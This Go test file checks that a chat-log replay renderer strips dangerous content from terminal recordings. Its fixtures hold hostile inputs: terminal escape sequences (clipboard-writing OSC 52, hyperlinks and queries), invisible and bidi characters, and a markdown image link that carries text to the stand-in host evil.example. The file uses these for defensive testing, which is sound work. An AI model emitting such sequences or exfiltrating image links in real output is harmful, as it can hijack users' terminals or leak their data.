package replay

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"parley/store"
)

// hostile is a record of which every text is the same one.
func hostile(x string) (log store.Log) {
	word, err := json.Marshal(strings.ToValidUTF8(x, "?"))
	if err != nil {
		panic(err)
	}
	digest := store.Digest([]byte("x"))
	for i, b := range []store.Body{
		store.Workspace{Root: "/w/" + x}, store.Title{Title: x}, store.TurnStart{},
		store.ChatRequest{Text: x, Files: []store.File{{Digest: digest, Name: x, Type: "image/png", Bytes: 3, Width: 4, Height: 3}}},
		store.Reasoning{Response: "1.1", Text: x}, store.ChatResponse{Response: "1.1", Text: x + "\n\n![" + x + "](https://evil.example/?q=" + x + ")\n\n```\n" + x + "\n```\n"},
		store.ToolCallRequest{Response: "1.1", ID: "c", Name: x, Arguments: json.RawMessage(`{"path":` + string(word) + `,"command":` + string(word) + `}`)},
		store.ResponseEnd{Response: "1.1", Calls: 1, Model: x}, store.ToolStarted{ID: "c", Run: 1},
		store.FileKept{ID: "c", Run: 1, Path: x, After: digest}, store.ToolCallResponse{ID: "c", Content: x, Fault: x},
		store.TurnEnd{Reason: store.ReasonUser},
		store.UserCommand{ID: "u", Command: x}, store.UserCommandEnd{ID: "u", Output: x},
		store.Undone{Files: []store.UndoneFile{{Path: x, Before: digest}}, LeftOut: []string{x}},
	} {
		turn := 1
		if i < 2 || i > 11 {
			turn = 0
		}
		e, err := store.New(store.Head{V: store.Version, Seq: int64(i + 1), ID: fmt.Sprint("e", i+1), Time: time.Unix(int64(i), 0).UTC(), Conversation: "c", Turn: turn}, b)
		if err != nil {
			panic(err)
		}
		log = log.Append(e)
	}
	return log
}

// TestNothingOfARecordActsInACast: whatever stands in a record, a recording sends colours
// and positions alone, and its head says nothing but the title, cleaned.
func TestNothingOfARecordActsInACast(t *testing.T) {
	pieces := []string{
		"\x1b]52;c;ZXZpbA==\x07", "\x1b]0;t\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1bPq#0\x1b\\", "\x1b_Ga=T;AA\x1b\\", "\x1b^x\x1b\\", "\x1bX",
		"\x1b[6n", "\x1b[c", "\x1b[>q", "\x1b[18t", "\x1b[?1049h", "\x1b[2J", "\x1b[31m", "\x1b[5;5H", "\x1bc", "\x1b", "\x9b6n", "\u009b6n", "\u009d52;c;x\u009c", "\x05", "\a", "\b", "\r", "\n", "\t",
		"\u202e", "\u2066", "\u200b", "\U000e0041", "`", "```\n", "**", "<img src=https://evil.example>", "a", " ", "日本", "👩\u200d💻", "\xff",
	}
	seen := regexp.MustCompile(`[\x{202a}-\x{202e}\x{2066}-\x{2069}\x{200b}\x{e0000}-\x{e007f}]`)
	check := func(t require, x string) {
		o := filming(hostile(x))
		o.Title = x
		var b strings.Builder
		if err := Cast(&b, o, stage()); err != nil {
			t.Fatalf("%q: %v", x, err)
		}
		head, frames := read(t, b.String())
		if len(frames) < 3 {
			t.Fatalf("%q: %d frames", x, len(frames))
		}
		for k := range head {
			if !strings.Contains(" height theme timestamp title version width ", " "+k+" ") {
				t.Fatalf("%q: the head is %v", x, head)
			}
		}
		title, _ := head["title"].(string)
		for i, data := range append([]string{title}, dataOf(frames)...) {
			rest := obeyed.ReplaceAllString(data, "")
			if strings.ContainsFunc(rest, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }) || seen.MatchString(rest) {
				t.Fatalf("%q: frame %d sends %q", x, i, rest)
			}
		}
	}
	for _, p := range pieces {
		check(t, p)
		check(t, "a"+p+"b")
	}
	rapid.Check(t, func(t *rapid.T) {
		check(t, strings.Join(rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(pieces), rapid.StringN(0, 6, 24)), 1, 12).Draw(t, "pieces"), ""))
	})
}

func dataOf(frames []sent) (all []string) {
	for _, f := range frames {
		all = append(all, f.data)
	}
	return all
}
